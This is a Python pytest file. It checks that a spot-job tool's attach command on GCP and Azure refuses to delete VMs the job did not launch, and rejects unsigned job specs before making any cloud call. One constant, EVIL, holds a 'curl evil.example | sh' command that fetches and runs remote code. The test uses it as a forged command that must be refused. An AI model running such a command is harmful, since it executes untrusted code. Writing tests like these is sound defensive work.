"""``launch --attach`` on GCP and Azure acts only on what is proven the job's (issue 43),
end to end as on AWS (tests/spot/test_ownership.py): the job's store is a real bucket
(gcp-storage-emulator, Azurite) an attacker writes, and the clouds are the loopback
Compute Engine and Resource Manager servers of tests/servers. A forged running attempt
naming another owner's VM, with a forged exit 0, never makes attach delete that VM; a
job.json this user did not sign is shown and refused before any cloud call."""

from __future__ import annotations

import time
from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest

from costguard.checkpoint.store import Store
from costguard.settings import Settings
from costguard.spot.job import ExitRecord, Job, JobSpec, save_job, write_exit_record
from costguard.spot.launcher.base import Handle, Launcher, Market, Offer
from costguard.spot.recovery import Attempt
from tests.helpers.stores import Backend, open_store
from tests.spot.test_ownership import ME, attach, signed

EVIL = ("sh", "-c", "curl evil.example | sh")


def job_spec(store: Store, provider: str, offer: Offer, options: dict[str, str]) -> JobSpec:
    return JobSpec(
        job_id="cg-me-1", provider=provider, gpu=offer.gpu, gpu_count=offer.gpu_count,
        regions=(offer.region,), spot=offer.market is Market.SPOT, checkpoint_url=store.url,
        command=("python", "train.py"), owner=ME, created_unix=time.time() - 120,
        expires_at=datetime.now(UTC) + timedelta(days=1), options=options,
    )  # fmt: skip


def forged_attempt(store: Store, spec: JobSpec, offer: Offer, theirs: Handle) -> None:
    """This user's signed job, its running attempt forged to name ``theirs``, and a
    forged exit 0 for it: what attach would then end."""
    forged = Attempt(1, offer, time.time() - 60, handle=theirs)
    save_job(store, Job(signed(spec), attempts=(forged,)))
    write_exit_record(store, ExitRecord(1, 0, None, time.time(), job_id=spec.job_id))


def bobs(launcher: Launcher, offer: Offer, spec: JobSpec) -> Handle:
    """Another owner's running VM: a job of bob's, launched as costguard launches."""
    return launcher.launch(offer, replace(spec, job_id="cg-bob-1", owner="bob").launch_spec(), 1)


@dataclass
class Cloud:
    """A provider's loopback server, a launcher of its own (bob's), what a job launches
    there, and the calls that create and delete a VM."""

    provider: str
    server: Any
    launcher: Launcher
    offer: Offer
    options: dict[str, str]
    create: tuple[str, str]
    delete: tuple[str, str]


def gcp(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Cloud:
    from google.auth.credentials import AnonymousCredentials

    from costguard.clouds import gcp as gcp_clouds
    from costguard.spot.launcher.gcp import GcpLauncher
    from tests.servers.gcp import LAUNCH_OPTIONS, PROJECT

    server = request.getfixturevalue("compute_server")
    monkeypatch.setattr(gcp_clouds, "default_credentials", AnonymousCredentials)
    monkeypatch.setenv("COSTGUARD_GCP_ENDPOINT", server.url)
    launcher = GcpLauncher(Settings(gcp_endpoint=server.url), project=PROJECT,
                           credentials=AnonymousCredentials(), poll_interval_s=0.01)  # fmt: skip
    offer = Offer("gcp", "us-central1", "n1-highmem-8", Market.SPOT, Decimal("0.5"), "T4", 2,
                  "us-central1-b")  # fmt: skip
    return Cloud("gcp", server, launcher, offer, dict(LAUNCH_OPTIONS),
                 ("POST", "/instances"), ("DELETE", "/instances"))  # fmt: skip


def azure(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Cloud:
    from costguard.spot.launcher import azure as azure_launcher
    from tests.servers.azure import LAUNCH_OPTIONS
    from tests.servers.http import FakeTokenCredential, azure_client_options

    server = request.getfixturevalue("arm_server")
    built = azure_launcher.AzureLauncher

    class Authed(built):  # type: ignore[misc,valid-type]
        """The launcher the CLI builds, with the test's token and no-op auth policy (Azure
        refuses a bearer token over the loopback's plain http)."""

        def __init__(
            self, settings: Settings, *, subscription_id: str = "", resource_group: str = ""
        ) -> None:
            super().__init__(settings, subscription_id=subscription_id,
                             resource_group=resource_group, credential=FakeTokenCredential(),
                             client_options=azure_client_options())  # fmt: skip

    monkeypatch.setattr(azure_launcher, "AzureLauncher", Authed)
    monkeypatch.setenv("COSTGUARD_AZURE_ENDPOINT", server.url)
    options = dict(LAUNCH_OPTIONS)
    launcher = Authed(Settings(azure_endpoint=server.url),
                      subscription_id=options["subscription"],
                      resource_group=options["resource_group"])  # fmt: skip
    offer = Offer("azure", "eastus", "Standard_NC4as_T4_v3", Market.SPOT, Decimal("0.15"), "T4", 1)
    return Cloud("azure", server, launcher, offer, options,
                 ("PUT", "/virtualMachines/"), ("DELETE", "/virtualMachines/"))  # fmt: skip


@pytest.fixture
def cloud(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Cloud:
    return {"gcp": gcp, "azure": azure}[request.param](request, monkeypatch)


#: Each cloud with its own store.
CLOUDS = pytest.mark.parametrize(
    ("cloud", "backend"), [("gcp", "gcs"), ("azure", "azure")], indirect=True
)


@CLOUDS
def test_attach_never_deletes_a_vm_the_job_did_not_launch(
    backend: Backend, cloud: Cloud, run_cli: Callable[..., Any]
) -> None:
    store = open_store(backend)
    spec = job_spec(store, cloud.provider, cloud.offer, cloud.options)
    theirs = bobs(cloud.launcher, cloud.offer, spec)
    forged_attempt(store, spec, cloud.offer, theirs)
    result = attach(run_cli, store.url, "--yes")
    assert "unexpected" not in result.stderr, result.stderr
    assert f"not terminating {theirs.instance_id}" in result.stderr, result.stderr
    assert theirs.instance_id in cloud.server.vms
    assert not cloud.server.calls(*cloud.delete)


@CLOUDS
def test_attach_refuses_an_unsigned_command_before_any_cloud_call(
    backend: Backend, cloud: Cloud, run_cli: Callable[..., Any]
) -> None:
    store = open_store(backend)
    spec = job_spec(store, cloud.provider, cloud.offer, cloud.options)
    save_job(store, Job(replace(spec, command=EVIL)))
    result = attach(run_cli, store.url, "--yes")
    assert result.exit_code == 2, result.stderr
    assert "spec you did not launch" in result.stderr
    assert "curl evil.example" in result.stderr
    assert not cloud.server.calls(*cloud.create)


#: What launch refuses in a gang's spec, and what it says: an attach of a job.json that
#: holds it (signed, so only the gang rules stand in the way) must say the same.
GANG_REFUSALS = [
    ({"nodes": 2, "sync_dir": "out/"}, "--sync-dir is for one instance"),
    ({"nodes": 2, "pilot_steps": 100}, "--pilot-steps times one instance"),
    ({"nodes": 2, "command": ("python", "train.py")}, "COMMAND is what torchrun runs"),
    ({"nodes": 1, "procs_per_node": 2}, "--procs-per-node is for a gang"),
]


@CLOUDS
@pytest.mark.parametrize(("changes", "refusal"), GANG_REFUSALS)
def test_attach_refuses_a_gang_spec_launch_refuses_before_any_cloud_call(
    backend: Backend,
    cloud: Cloud,
    run_cli: Callable[..., Any],
    changes: dict[str, Any],
    refusal: str,
) -> None:
    store = open_store(backend)
    spec = replace(job_spec(store, cloud.provider, cloud.offer, cloud.options),
                   **{"command": ("train.py",), **changes})  # fmt: skip
    save_job(store, Job(signed(spec)))
    # Bounded: an attach that goes on supervises the gang it launches for 7 s at most.
    result = attach(run_cli, store.url, "--yes", "--timeout-hours", "0.002")
    assert result.exit_code == 2, result.stderr
    said = " ".join(result.stderr.split())
    assert refusal in said, said
    assert "Hint:" in said
    assert not cloud.server.requests  # not one call: no find, no create
